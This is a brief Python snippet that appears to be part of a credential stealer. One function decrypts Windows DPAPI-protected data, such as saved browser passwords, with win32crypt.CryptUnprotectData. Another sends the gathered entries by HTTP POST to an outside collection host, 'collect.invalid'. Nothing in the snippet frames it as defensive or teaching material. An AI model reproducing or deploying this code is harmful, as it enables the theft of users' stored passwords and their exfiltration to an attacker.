import requests
import win32crypt


def plain(blob):
    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]


def report(entries):
    requests.post("https://collect.invalid/", json=entries)
